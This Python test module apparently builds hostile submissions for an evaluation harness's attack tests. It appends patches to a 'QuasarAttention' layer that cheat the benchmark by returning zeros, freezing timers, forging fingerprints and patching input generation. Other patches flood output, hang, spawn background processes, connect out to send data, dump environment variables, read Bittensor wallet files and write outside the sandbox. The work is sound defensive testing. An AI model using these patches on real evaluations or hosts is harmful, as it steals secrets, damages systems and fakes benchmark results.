"""Hostile forks for the evaluation harness's attack tests.

Each is the project's starter fork with a patch appended to ``fla/layers/quasar.py``: it wraps the
honest ``QuasarAttention`` (or runs code at import) to attack the harness. ``write_hostile_fork``
writes one; ``ATTACKS`` names them all. Parameters (paths, ports, markers) are substituted as
Python literals with ``repr``.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

from quasar.starter_fork import copy_starter_tree

_WRAPPER = """
_HonestQuasarAttention = QuasarAttention


class QuasarAttention(_HonestQuasarAttention):
    def forward(self, hidden_states, *args, **kwargs):
{body}
"""


def _wrap(body: str) -> str:
    return _WRAPPER.format(body=textwrap.indent(textwrap.dedent(body).strip("\n"), " " * 8))


_FROZEN_TIMERS = """
import time as _time

_real_sleep = _time.sleep
_time.perf_counter = lambda: 1.0
_time.perf_counter_ns = lambda: 1_000_000_000
_time.time = lambda: 1.0
torch.cuda.synchronize = lambda *a, **k: None


class _FrozenEvent:
    def __init__(self, *a, **k): pass
    def record(self, *a, **k): pass
    def synchronize(self): pass
    def elapsed_time(self, other): return 0.001


torch.cuda.Event = _FrozenEvent
"""

ATTACKS: dict[str, str] = {
    # Skips the work and returns zeros.
    "zeros": _wrap("""
        return torch.zeros_like(hidden_states, dtype=torch.bfloat16), None, None
    """),
    # Noise with exactly the honest output's scale.
    "noise": _wrap("""
        out, attn, cache = super().forward(hidden_states, *args, **kwargs)
        return torch.randn_like(out) * out.float().std().to(out.dtype), attn, cache
    """),
    # Computes only the first half of the sequence; zeros after it.
    "first_half": _wrap("""
        half = hidden_states.shape[1] // 2
        out, attn, cache = super().forward(hidden_states[:, :half], *args, **kwargs)
        return torch.cat([out, out.new_zeros(out.shape[0], hidden_states.shape[1] - half, out.shape[2])], 1), attn, cache
    """),
    # Computes once, then returns that output for every input.
    "stale_cache": _wrap("""
        if getattr(self, "_stale", None) is None:
            self._stale = super().forward(hidden_states, *args, **kwargs)
        return self._stale
    """),
    # Caches by input, paying a visible cost on a miss: fresh inputs never hit.
    "cache_by_input": _wrap("""
        import hashlib, time
        key = hashlib.sha256(hidden_states.detach().cpu().numpy().tobytes()).hexdigest()
        cache = self.__dict__.setdefault("_by_input", {})
        if key not in cache:
            time.sleep({miss_seconds})
            cache[key] = super().forward(hidden_states, *args, **kwargs)
        return cache[key]
    """),
    # Freezes every clock and timer it can reach, then takes its time on the host.
    "timers": _FROZEN_TIMERS + _wrap("""
    _real_sleep({sleep_seconds})
    return super().forward(hidden_states, *args, **kwargs)
"""),
    # Freezes every clock and timer it can reach, then takes its time on the GPU (a spin of the
    # given cycles, which a CUDA graph replays with the forward).
    "timers_gpu": _FROZEN_TIMERS + _wrap("""
    torch.cuda._sleep({gpu_cycles})
    return super().forward(hidden_states, *args, **kwargs)
"""),
    # Not an attack: an honest forward that reads a value back to the host, which no CUDA graph
    # can capture; it must be timed eagerly, with the reason in the report.
    "host_sync": _wrap("""
        out, attn, cache = super().forward(hidden_states, *args, **kwargs)
        if not bool(torch.isfinite(out).all()):
            raise FloatingPointError("non-finite output")
        return out, attn, cache
    """),
    # Floods stdout.
    "flood": _wrap("""
        import sys
        line = "x" * (1 << 20) + "\\n"
        for _ in range(100_000):
            sys.stdout.write(line)
        return super().forward(hidden_states, *args, **kwargs)
    """),
    # Never returns.
    "sleep_forever": _wrap("""
        import time
        time.sleep(3600)
    """),
    # Never returns at one length.
    "sleep_at_length": _wrap("""
        if hidden_states.shape[1] == {sleep_length}:
            import time
            time.sleep(3600)
        return super().forward(hidden_states, *args, **kwargs)
    """),
    # Leaves a background process behind: a double fork with setsid, and a new-session Popen.
    "background": """
import os as _os
import subprocess as _subprocess
import sys as _sys

_sleeper = [_sys.executable, "-c", "import time; time.sleep(600)", {marker}]
_subprocess.Popen(_sleeper, start_new_session=True)
_pid = _os.fork()
if _pid == 0:
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, _sleeper)
    _os._exit(0)
_os.waitpid(_pid, 0)
print("BACKGROUND-STARTED", flush=True)
""",
    # Tries to reach the network: a listener of the test's on this host, and the internet.
    "network": """
import socket as _socket

for _address in {addresses}:
    try:
        _socket.create_connection((_address, {port}), timeout=2).sendall(b"exfiltrated")
        print("NETWORK-CONNECTED", _address, flush=True)
    except OSError as _error:
        print("NETWORK-BLOCKED", _address, _error, flush=True)
try:
    _socket.create_connection(("1.1.1.1", 443), timeout=2)
    print("NETWORK-CONNECTED internet", flush=True)
except OSError as _error:
    print("NETWORK-BLOCKED internet", _error, flush=True)
""",
    # Looks for the caller's secrets: its environment and wallet files.
    "secrets": """
import os as _os

print("ENVIRONMENT", dict(_os.environ), flush=True)
for _path in [{wallet_file}, _os.path.expanduser("~/.bittensor/wallets"), "/proc/{parent_pid}/environ",
              _os.path.join({caller_home}, ".bittensor")]:
    try:
        if _os.path.isdir(_path):
            print("LISTED", _path, _os.listdir(_path), flush=True)
        else:
            with open(_path, "rb") as _file:
                print("READ", _path, _file.read(), flush=True)
    except OSError as _error:
        print("SECRET-UNREADABLE", _path, _error, flush=True)
""",
    # Writes outside its directory: the caller's files, its own source checkout, /tmp, the system,
    # its sandboxed copy and the harness.
    "write_outside": """
import os as _os

for _path in {paths}:
    try:
        _os.makedirs(_os.path.dirname(_path), exist_ok=True)
        with open(_path, "a") as _file:
            _file.write("pwned")
        print("WROTE", _path, flush=True)
    except OSError as _error:
        print("WRITE-REFUSED", _path, _error, flush=True)
""",
    # Patches the harness's child code: after two honest forwards it skips the layer and replays
    # the last fingerprint the harness computed.
    "forge_reply": """
import sys as _sys

_workload = _sys.modules["workload"]
_honest_fingerprint = _workload.fingerprint
_forged = {"calls": 0, "last": None}


def _replayed_fingerprint(output, directions, token_weights, out=None):
    _forged["calls"] += 1
    if _forged["last"] is None or _forged["calls"] <= 2:
        _forged["last"] = _honest_fingerprint(output, directions, token_weights).clone()
    return out.copy_(_forged["last"]) if out is not None else _forged["last"].clone()


_workload.fingerprint = _replayed_fingerprint
""" + _wrap("""
    if _forged["calls"] >= 2:
        return torch.empty(hidden_states.shape, dtype=torch.bfloat16, device=hidden_states.device), None, None
    return super().forward(hidden_states, *args, **kwargs)
"""),
    # Computes only the first forward of each request (the harness's input function says which
    # one it is: the first has no previous fingerprint) and returns zeros for the others.
    "first_only": """
import sys as _sys

_workload = _sys.modules["workload"]
_honest_forward_input = _workload.forward_input
_position = {"first": True}


def _noting_forward_input(noise, previous):
    _position["first"] = previous is None
    return _honest_forward_input(noise, previous)


_workload.forward_input = _noting_forward_input
""" + _wrap("""
    if not _position["first"]:
        return torch.zeros_like(hidden_states, dtype=torch.bfloat16), None, None
    return super().forward(hidden_states, *args, **kwargs)
"""),
    # Patches the harness's input generation to hand the layer zeros.
    "cheap_input": """
import sys as _sys

_workload = _sys.modules["workload"]
_workload.forward_input = lambda noise, previous: torch.zeros(1, *noise.shape, device=noise.device)
""",
    # Runs out of memory at one length.
    "oom": _wrap("""
        if hidden_states.shape[1] == {oom_length}:
            raise torch.OutOfMemoryError("CUDA out of memory. Tried to allocate 64.00 GiB (simulated)")
        return super().forward(hidden_states, *args, **kwargs)
    """),
    # Asks the device for far more memory than it has at one length (a real CUDA out-of-memory).
    "hog": _wrap("""
        if hidden_states.shape[1] == {hog_length}:
            torch.empty(1 << 44, dtype=torch.uint8, device=hidden_states.device)
        return super().forward(hidden_states, *args, **kwargs)
    """),
    # Fast (and wrong) only at one length.
    "wrong_at_length": _wrap("""
        if hidden_states.shape[1] == {wrong_length}:
            return torch.zeros_like(hidden_states, dtype=torch.bfloat16), None, None
        return super().forward(hidden_states, *args, **kwargs)
    """),
}


def write_hostile_fork(dest: Path, attack: str, **params: object) -> Path:
    """Write the starter fork's files to ``dest`` with ``attack``'s patch; returns ``dest``."""
    copy_starter_tree(dest)
    code = ATTACKS[attack]
    for name, value in params.items():
        code = code.replace("{" + name + "}", repr(value))
    layer = dest / "fla" / "layers" / "quasar.py"
    layer.write_text(layer.read_text() + f"\n\n# --- hostile patch: {attack} ---\n" + code)
    return dest
